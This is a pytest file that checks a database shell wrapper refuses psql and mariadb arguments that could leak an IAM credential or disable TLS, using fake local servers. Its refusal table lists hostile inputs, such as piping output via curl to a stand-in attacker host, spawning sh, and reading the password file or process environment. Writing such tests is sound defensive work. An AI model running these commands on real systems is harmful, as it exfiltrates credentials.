"""`securedb shell`: no client argument sends the credential elsewhere or without verified TLS.

The table tests parse argument vectors the way psql and mariadb do and need no server.
The end-to-end tests run the real clients as the shell would start them, with the
"evil" destination a fake server on 127.0.0.1 that asks for the password in clear and
records every byte it receives.
"""

from __future__ import annotations

import contextlib
import os
import re
import shutil
import socket
import ssl
import stat
import struct
import subprocess
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import pytest

from securedb.cli import _client_args, shell
from securedb.config import Config
from securedb.credentials.base import Credential
from securedb.errors import ConfigError
from tests import fakes

# What an IAM token looks like to a password file: a ':' and a '\' to escape.
SECRET = "db.example.invalid:5432/?Action=connect&X-Amz-Signature=e2e\\0123456789abcdef"
CRED = Credential(user="iam_user", password=SECRET)
ENDPOINT = "db.example.invalid"  # never resolves: only an argument could reach a server

PSQL, MYSQL = _client_args.PSQL, _client_args.MYSQL


# The table: parse and refuse, no server.

REFUSED = [
    # psql: bundled short options, a value in the same word or the next one
    (PSQL, ["-Xd", "host=evil sslmode=disable"]),
    (PSQL, ["-Xdhost=evil sslmode=disable"]),
    (PSQL, ["-Ah", "evil.example.com"]),
    (PSQL, ["-Atp5433"]),
    (PSQL, ["-d", "sslmode=disable"]),
    (PSQL, ["-h", "evil.example.com"]),
    (PSQL, ["-Uroot"]),
    (PSQL, ["-U", "root"]),
    (PSQL, ["-W"]),
    # psql: long options, = or a separate value, and abbreviations of them
    (PSQL, ["--dbname=host=evil"]),
    (PSQL, ["--dbname", "host=evil"]),
    (PSQL, ["--dbn=x"]),
    (PSQL, ["--db", "x"]),
    (PSQL, ["--host", "evil.example.com"]),
    (PSQL, ["--host=evil.example.com"]),
    (PSQL, ["--ho=x"]),
    (PSQL, ["--port=5433"]),
    (PSQL, ["--username", "root"]),
    (PSQL, ["--tuples"]),  # an abbreviation, even of an option passed on
    (PSQL, ["--csv=1"]),  # psql would stop: --csv takes no value
    # psql: positional database/user, a conninfo or a URI, also after --
    (PSQL, ["host=evil sslmode=disable"]),
    (PSQL, ["postgresql://evil.example.com/app?sslmode=disable"]),
    (PSQL, ["-At", "app", "root"]),
    (PSQL, ["--", "host=evil"]),
    (PSQL, ["-"]),
    # psql: meta-commands, scripts, shell commands
    (PSQL, ["-c", "\\connect 'host=evil sslmode=disable'"]),
    (PSQL, ["--command=\\c host=evil"]),
    (PSQL, ["-Atc", "\\! cat $PGPASSFILE"]),
    (PSQL, ["-c", "select 1 \\g |cat"]),
    (PSQL, ["-f", "script.sql"]),
    (PSQL, ["--file=script.sql"]),
    (PSQL, ["-o", "|curl -d @- evil.example.com"]),
    (PSQL, ["--output=|sh"]),
    (PSQL, ["-vPROMPT1=%`cat $PGPASSFILE`"]),
    (PSQL, ["--set", "prompt2=x"]),
    (PSQL, ["--cluster", "15/main"]),  # Debian's wrapper would pick a local cluster
    (PSQL, ["-Z"]),
    (PSQL, ["-c"]),  # no value: psql would stop
    # mariadb: bundled short options
    (MYSQL, ["-Bh", "evil.example.com"]),
    (MYSQL, ["-BP", "1"]),
    (MYSQL, ["-Bhevil.example.com"]),
    (MYSQL, ["-S", "/tmp/evil.sock"]),
    (MYSQL, ["-uroot"]),
    (MYSQL, ["-pxyz"]),
    (MYSQL, ["-D", "mysql"]),
    # mariadb: long options and the forms my_getopt adds
    (MYSQL, ["--host=evil.example.com"]),
    (MYSQL, ["--host", "evil.example.com"]),
    (MYSQL, ["--ho=x"]),
    (MYSQL, ["--us", "root"]),
    (MYSQL, ["--loose-host=x"]),
    (MYSQL, ["--loose-user=x"]),
    (MYSQL, ["--loose_loose-port=1"]),
    (MYSQL, ["--maximum-host"]),
    (MYSQL, ["--client.host=evil.example.com"]),  # --group.name is option name
    (MYSQL, ["--protocol=socket"]),
    (MYSQL, ["--password=xyz"]),
    (MYSQL, ["--database=mysql"]),
    # mariadb: TLS, auth plugins, option files
    (MYSQL, ["--skip-ssl"]),
    (MYSQL, ["--loose-skip-ssl"]),
    (MYSQL, ["--ssl=0"]),
    (MYSQL, ["--disable-ssl-verify-server-cert"]),
    (MYSQL, ["--ssl_verify_server_cert=0"]),
    (MYSQL, ["--ssl-ca=/tmp/evil-ca.pem"]),
    (MYSQL, ["--tls-version=TLSv1"]),
    (MYSQL, ["--ssl-mode=DISABLED"]),
    (MYSQL, ["--defaults-extra-file=x"]),
    (MYSQL, ["--defaults-file=x"]),
    (MYSQL, ["--defaults-group-suffix=_evil"]),
    (MYSQL, ["--no-defaults"]),
    (MYSQL, ["--login-path=x"]),
    (MYSQL, ["--plugin-dir=x"]),
    (MYSQL, ["--default-auth=x"]),
    (MYSQL, ["--enable-cleartext-plugin"]),
    (MYSQL, ["--init-command=SET @a=1"]),  # harmless, but not listed: nothing unchecked passes
    (MYSQL, ["--local-infile"]),
    (MYSQL, ["--pager=sh"]),
    # mariadb: client commands in -e, positional database
    (MYSQL, ["-e", "connect app evil.example.com"]),
    (MYSQL, ["-Be", "select 1; CONNECT app evil.example.com"]),
    (MYSQL, ["--execute=\\r app evil.example.com"]),
    (MYSQL, ["-e", "system cat /proc/self/environ"]),
    (MYSQL, ["-e", "source /tmp/evil.sql"]),
    (MYSQL, ["--skip-execute"]),  # --skip- is for on/off options
    (MYSQL, ["mysql"]),
    (MYSQL, ["-N", "--", "mysql"]),
]

ALLOWED = [
    (PSQL, []),
    (PSQL, ["-At"]),
    (PSQL, ["-Atc", "select 1"]),
    (PSQL, ["-c", "select 1"]),
    (PSQL, ["--command", "select current_user"]),
    (PSQL, ["-v", "ON_ERROR_STOP=1"]),
    (PSQL, ["-vON_ERROR_STOP=1", "-X1", "-c", "select 1"]),
    (PSQL, ["--set=x"]),
    (PSQL, ["--variable", "x=1"]),
    (PSQL, ["-e", "--csv", "-P", "pager=off", "-c", "select 1"]),
    (PSQL, ["-o", "out.txt", "--log-file=session.log"]),
    (PSQL, ["-qxF,", "-R;"]),
    (PSQL, ["-Ac", "select 1", "--"]),
    (MYSQL, ["-N", "-e", "select 1"]),
    (MYSQL, ["--batch"]),
    (MYSQL, ["-Be", "select 1"]),
    (MYSQL, ["-e", "select 'a'; select 2"]),
    (MYSQL, ["--table", "-vvv"]),
    (MYSQL, ["--skip-column-names", "--column-names=0", "--disable-column-names"]),
    (MYSQL, ["--skip_column_names", "--loose-batch", "--enable-line-numbers"]),
    (MYSQL, ["--execute", "select 1", "--vertical"]),
    (MYSQL, ["--safe-updates", "--connect-timeout", "5", "-E"]),
]


def _ids(table: list[tuple[_client_args.Client, list[str]]]) -> list[str]:
    return [f"{'psql' if c is PSQL else 'mysql'} {' '.join(a)}" for c, a in table]


@pytest.mark.parametrize(("client", "args"), REFUSED, ids=_ids(REFUSED))
def test_refused(client: _client_args.Client, args: list[str]) -> None:
    with pytest.raises(ConfigError, match=r"^client (option|argument) .* is not passed to"):
        _client_args.check(client, args)


@pytest.mark.parametrize(("client", "args"), ALLOWED, ids=_ids(ALLOWED))
def test_allowed(client: _client_args.Client, args: list[str]) -> None:
    _client_args.check(client, args)


def test_the_table_is_large_enough() -> None:
    assert len(REFUSED) >= 40


@pytest.mark.parametrize(
    ("client", "args"),
    [
        (PSQL, ["-Uxyz-secret"]),
        (PSQL, ["--password=xyz-secret"]),
        (PSQL, ["postgresql://u:xyz-secret@evil/app"]),
        (MYSQL, ["-pxyz-secret"]),
        (MYSQL, ["--password", "xyz-secret"]),
    ],
)
def test_a_refusal_names_the_option_never_its_value(
    client: _client_args.Client, args: list[str]
) -> None:
    with pytest.raises(ConfigError) as refused:
        _client_args.check(client, args)
    assert "xyz-secret" not in str(refused.value)


def test_a_refusal_says_why_and_what_to_do() -> None:
    with pytest.raises(ConfigError) as refused:
        _client_args.check(PSQL, ["-Xd", "host=evil"])
    assert str(refused.value) == (
        "client option -d (argument 1) is not passed to psql: the database and the user "
        "come from the URL; change the URL instead"
    )
    with pytest.raises(ConfigError, match="abbreviates --host; the endpoint comes from"):
        _client_args.check(MYSQL, ["--ho=x"])


def _help_options(client: str) -> dict[str, tuple[str, bool]]:
    """Long option -> (letter, takes a value), as the installed client's --help lists them."""
    path = shutil.which(client)
    if path is None:
        pytest.skip(f"{client} is not installed")
    extra = ["--no-defaults"] if client == "mariadb" else []
    out = subprocess.run(
        [path, *extra, "--help"], capture_output=True, text=True, timeout=30, check=True
    ).stdout
    found: dict[str, tuple[str, bool]] = {}
    for line in out.splitlines():  # "  -c, --command=COMMAND", "  -1 ("one"), --single-…"
        listed = re.match(r"\s{2,6}(?:-(\S)(?: \S+)?, )?--([\w-]+)(=|\[=)?", line)
        if listed:
            short, long, value = listed.groups()
            found.setdefault(long, (short or "", value == "="))
    return found


@pytest.mark.parametrize(("client", "name"), [(PSQL, "psql"), (MYSQL, "mariadb")])
def test_each_option_passed_on_is_the_installed_clients(
    client: _client_args.Client, name: str
) -> None:
    """Each letter and long name means what the table says, value or not, and no
    --loose-/--skip-/--disable-/--enable- form of one is a prefix of another option."""
    listed = _help_options(name)
    for option in client.options:
        if option.name == "variable":  # listed after --set on its line
            continue
        assert option.name in listed, option.name
        letter, value = listed[option.name]
        assert (letter, value) == (option.short, option.value), option.name
    if client.my_getopt:
        passed = {o.name for o in client.options}
        for option in client.options:
            for form in (f"{p}-{option.name}" for p in ("loose", "skip", "disable", "enable")):
                clash = {n for n in listed if n.startswith(form)} - passed
                assert not clash, (form, clash)


# The conninfo and the password file.


@pytest.mark.parametrize(
    "value",
    ["app", "my db", "it's", "back\\slash", "app\thostaddr=203.0.113.9\nservice=evil", "a=b c=d"],
)
def test_conninfo_values_cannot_add_parameters(value: str, tmp_path: Path) -> None:
    conninfo_to_dict = pytest.importorskip("psycopg.conninfo").conninfo_to_dict
    if not shutil.which("psql"):
        pytest.skip("psql is not installed")
    cfg = Config.from_url(f"postgresql://iam_user@{ENDPOINT}/{quote(value, safe='')}", auth="iam")
    argv, _ = shell.psql_command(cfg, CRED, [], {}, str(tmp_path / "pgpass"))
    assert argv[1] == "-X"
    parsed = conninfo_to_dict(argv[2].removeprefix("--dbname="))
    assert parsed["dbname"] == value
    assert set(parsed) == {
        "host",
        "port",
        "dbname",
        "user",
        "sslmode",
        "sslrootcert",
        "ssl_min_protocol_version",
        "gssencmode",
    }
    assert (parsed["host"], parsed["sslmode"]) == (ENDPOINT, "verify-full")


def test_psql_environment_holds_no_credential_and_no_redirect(tmp_path: Path) -> None:
    if not shutil.which("psql"):
        pytest.skip("psql is not installed")
    cfg = Config.from_url(f"postgresql://iam_user@{ENDPOINT}/app", auth="iam")
    inherited = {
        **dict.fromkeys(("PGHOST", "PGHOSTADDR", "PGPORT", "PGUSER", "PGDATABASE"), "x"),
        **dict.fromkeys(("PGSERVICE", "PGSERVICEFILE", "PGSYSCONFDIR", "PGCLUSTER"), "x"),
        "PGPASSWORD": "old",
        "PGSSLMODE": "disable",
        "PGTZ": "UTC",
        "HOME": "/home/x",
    }
    passfile = str(tmp_path / "pgpass")
    argv, env = shell.psql_command(cfg, CRED, ["-At"], inherited, passfile)
    assert not any(SECRET in word for word in [*argv, *env.values()])
    assert {k for k in env if k.startswith("PG")} == {
        "PGTZ",
        "PGPASSFILE",
        "PGSSLMODE",
        "PGSSLROOTCERT",
        "PGSSLMINPROTOCOLVERSION",
        "PGGSSENCMODE",
    }
    assert (env["PGPASSFILE"], env["PGSSLMODE"], env["HOME"]) == (
        passfile,
        "verify-full",
        "/home/x",
    )


def test_mysql_environment_and_argv(tmp_path: Path) -> None:
    if not shutil.which("mariadb"):
        pytest.skip("mariadb is not installed")
    cfg = Config.from_url(f"mysql://iam_user@{ENDPOINT}/app", auth="iam")
    inherited = {"MYSQL_HOST": "evil", "MARIADB_PLUGIN_DIR": "/tmp", "MYSQL_PS1": "> "}
    argv, env = shell.mysql_command(cfg, CRED, ["-N"], inherited)
    assert argv[1] == "--no-defaults"  # only as the first argument
    assert env == {"MYSQL_PS1": "> ", "MYSQL_PWD": SECRET}
    assert not any(SECRET in word for word in argv)


def test_password_file_is_private_and_escaped(tmp_path: Path) -> None:
    cfg = Config.from_url(f"postgresql://iam_user@{ENDPOINT}:5433/app", auth="iam")
    path = tmp_path / "pgpass"
    shell.write_passfile(str(path), cfg, CRED)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    escaped = SECRET.replace("\\", "\\\\").replace(":", "\\:")
    assert path.read_text() == f"{ENDPOINT}:5433:*:iam_user:{escaped}\n"
    with pytest.raises(FileExistsError):  # never writes through an existing file
        shell.write_passfile(str(path), cfg, CRED)


def test_password_file_names_the_tunnel_port(tmp_path: Path) -> None:
    cfg = Config.from_url(
        f"postgresql://iam_user@{ENDPOINT}:5432/app", auth="iam", tunnel="127.0.0.1:6543"
    )
    shell.write_passfile(str(tmp_path / "pgpass"), cfg, CRED)
    assert (tmp_path / "pgpass").read_text().startswith(f"{ENDPOINT}:6543:*:iam_user:")


# End to end: the real clients and a fake server that asks for the password in clear.

SSL_REQUEST, GSSENC_REQUEST = 80877103, 80877104


def pg_asking_password(context: ssl.SSLContext | None = None) -> fakes.Handler:
    """A PostgreSQL server that accepts TLS if given `context` (else declines it), then
    asks for the password in clear and records the answer."""

    def handler(sock: socket.socket, server: fakes.FakeServer) -> None:
        with contextlib.ExitStack() as opened:
            conn: socket.socket = sock
            while True:
                body = _pg_startup(conn, server)
                code = struct.unpack("!I", body[:4])[0]
                if code == SSL_REQUEST and context is not None:
                    conn.sendall(b"S")
                    conn = opened.enter_context(context.wrap_socket(conn, server_side=True))
                elif code in (SSL_REQUEST, GSSENC_REQUEST):
                    conn.sendall(b"N")
                else:
                    conn.sendall(b"R" + struct.pack("!II", 8, 3))  # cleartext password, please
                    server.recv(conn, 65536)  # the 'p' message, if the client has a password
                    return

    return handler


def _pg_startup(sock: socket.socket, server: fakes.FakeServer) -> bytes:
    data = b""
    while len(data) < 4 or len(data) < struct.unpack("!I", data[:4])[0]:
        chunk = server.recv(sock, 4096)
        if not chunk:
            raise OSError("the client hung up")
        data += chunk
    return data[4:]


def mysql_tls_asking_password(context: ssl.SSLContext) -> fakes.Handler:
    """A MySQL server that offers TLS, then switches to mysql_clear_password and
    records the answer."""

    def handler(sock: socket.socket, server: fakes.FakeServer) -> None:
        caps = fakes.MYSQL_PROTOCOL_41 | fakes.MYSQL_SECURE | fakes.MYSQL_PLUGIN_AUTH
        sock.sendall(fakes.mysql_greeting(b"mysql_native_password", caps | fakes.MYSQL_SSL))
        fakes.mysql_read_packet(sock, server)  # the client's TLS request
        with context.wrap_socket(sock, server_side=True) as tls:
            fakes.mysql_read_packet(tls, server)  # user and scrambled password
            tls.sendall(fakes.mysql_packet(fakes.CLEARTEXT_SWITCHES["mysql_clear_password"], 3))
            fakes.mysql_read_packet(tls, server)  # the password in clear
            tls.sendall(fakes.mysql_packet(fakes.ACCESS_DENIED, 5))

    return handler


@pytest.fixture
def tls_pki(tmp_path: Path) -> tuple[str, ssl.SSLContext]:
    """A CA file for --ca-bundle, and a server context with its certificate for 127.0.0.1."""
    trustme = pytest.importorskip("trustme")
    ca = trustme.CA()
    ca_file = tmp_path / "ca.pem"
    ca.cert_pem.write_to_path(str(ca_file))
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ca.issue_cert("127.0.0.1").configure_cert(context)
    return str(ca_file), context


def client_env(tmp_path: Path) -> dict[str, str]:
    return {"PATH": os.environ["PATH"], "HOME": str(tmp_path), "LC_ALL": "C"}


def run_client(argv: list[str], env: dict[str, str]) -> None:
    """Run a client to its end: no terminal (a password prompt reads nothing), no input."""
    subprocess.run(
        argv,
        env=env,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=30,
        start_new_session=True,
        check=False,
    )


def launch_psql(cfg: Config, args: list[str], tmp_path: Path) -> None:
    """Start psql as `securedb shell` does; a refused argument starts nothing."""
    if not shutil.which("psql"):
        pytest.skip("psql is not installed")
    passfile = str(tmp_path / "pgpass")
    try:
        argv, env = shell.psql_command(cfg, CRED, args, client_env(tmp_path), passfile)
    except ConfigError:
        return
    shell.write_passfile(passfile, cfg, CRED)
    run_client(argv, env)


def launch_mysql(cfg: Config, args: list[str], tmp_path: Path) -> None:
    """Start mariadb as `securedb shell` does; a refused argument starts nothing."""
    if not shutil.which("mariadb"):
        pytest.skip("mariadb is not installed")
    try:
        argv, env = shell.mysql_command(cfg, CRED, args, client_env(tmp_path))
    except ConfigError:
        return
    run_client(argv, env)


def assert_no_credential(server: fakes.FakeServer) -> None:
    assert SECRET.encode() not in server.received
    assert b"X-Amz-Signature" not in server.received


def evil_conninfo(port: int) -> str:
    return f"host=127.0.0.1 port={port} user=iam_user dbname=app sslmode=disable"


@pytest.mark.parametrize(
    "vector",
    [
        lambda port: ["-Xd", evil_conninfo(port)],
        lambda port: [f"-Xd{evil_conninfo(port)}"],
        lambda port: ["-At", "-d", evil_conninfo(port), "-c", "select 1"],
    ],
    ids=["-Xd conninfo", "-Xdconninfo", "-d conninfo"],
)
def test_psql_dbname_options_reach_no_other_server(
    vector: Callable[[int], list[str]], tmp_path: Path
) -> None:
    cfg = Config.from_url(f"postgresql://iam_user@{ENDPOINT}/app", auth="iam")
    with fakes.FakeServer(pg_asking_password()) as evil:
        launch_psql(cfg, vector(evil.port), tmp_path)
    assert_no_credential(evil)


def test_a_url_path_cannot_add_conninfo_parameters(
    tls_pki: tuple[str, ssl.SSLContext], tmp_path: Path
) -> None:
    """A database name with tabs would have become `host=` and `port=` parameters: psql
    would have gone to a server whose certificate the trust store vouches for."""
    ca_file, context = tls_pki
    with fakes.FakeServer(pg_asking_password(context)) as evil:
        url = f"postgresql://iam_user@{ENDPOINT}/app%09host%3D127.0.0.1%09port%3D{evil.port}"
        launch_psql(Config.from_url(url, auth="iam", ca_bundle=ca_file), [], tmp_path)
    assert_no_credential(evil)


@pytest.mark.parametrize(
    "vector",
    [
        lambda port: ["-Bh", "127.0.0.1", "-BP", str(port), "-e", "select 1"],
        lambda port: ["--loose-host=127.0.0.1", f"--loose-port={port}", "-e", "select 1"],
    ],
    ids=["-Bh -BP", "--loose-host --loose-port"],
)
def test_mysql_endpoint_options_reach_no_other_server(
    vector: Callable[[int], list[str]], tls_pki: tuple[str, ssl.SSLContext], tmp_path: Path
) -> None:
    """Even a server whose certificate the trust store vouches for is not the URL's."""
    ca_file, context = tls_pki
    cfg = Config.from_url(f"mysql://iam_user@{ENDPOINT}/app", auth="iam", ca_bundle=ca_file)
    with fakes.FakeServer(mysql_tls_asking_password(context)) as evil:
        launch_mysql(cfg, vector(evil.port), tmp_path)
    assert_no_credential(evil)


@pytest.mark.parametrize("args", [a for c, a in ALLOWED if c is PSQL], ids=str)
def test_psql_options_passed_on_go_only_to_the_endpoint_over_tls(
    args: list[str], tmp_path: Path
) -> None:
    """With the URL's endpoint a server without TLS, psql asks for TLS and stops there."""
    with fakes.FakeServer(pg_asking_password()) as endpoint:
        cfg = Config.from_url(f"postgresql://iam_user@127.0.0.1:{endpoint.port}/app", auth="iam")
        in_tmp = [re.sub(r"^(--log-file=)?(\w+\.(txt|log))$", rf"\1{tmp_path}/\2", a) for a in args]
        launch_psql(cfg, in_tmp, tmp_path)
    assert endpoint.received.startswith(struct.pack("!II", 8, SSL_REQUEST))
    assert_no_credential(endpoint)


# What the password file does, and does not, prevent: libpq reads it for a \connect the
# way it reads it for this first connection (psql reuses no password for a conninfo).


@pytest.mark.parametrize(
    ("conninfo", "sent"),
    [
        # another host name: libpq finds no password for it
        ("host=127.0.0.1 port={port} user=iam_user dbname=app sslmode=disable", False),
        # the endpoint's name, the socket elsewhere: verify-full from PGSSLMODE stops it
        (f"host={ENDPOINT} hostaddr=127.0.0.1 port={{port}} user=iam_user dbname=app", False),
        # ... unless the conninfo turns TLS off: the gap docs/cli.md describes
        (
            f"host={ENDPOINT} hostaddr=127.0.0.1 port={{port}} user=iam_user dbname=app "
            "sslmode=disable",
            True,
        ),
    ],
    ids=["other host", "same name, verify-full", "same name, sslmode=disable"],
)
def test_what_the_password_file_gives_another_connection(
    conninfo: str, sent: bool, tmp_path: Path
) -> None:
    if not shutil.which("psql"):
        pytest.skip("psql is not installed")
    with fakes.FakeServer(pg_asking_password()) as evil:
        cfg = Config.from_url(f"postgresql://iam_user@{ENDPOINT}:{evil.port}/app", auth="iam")
        passfile = str(tmp_path / "pgpass")
        argv, env = shell.psql_command(cfg, CRED, [], client_env(tmp_path), passfile)
        shell.write_passfile(passfile, cfg, CRED)
        run_client([argv[0], "-Xw", conninfo.format(port=evil.port), "-c", "select 1"], env)
    assert (SECRET.encode() in evil.received) is sent
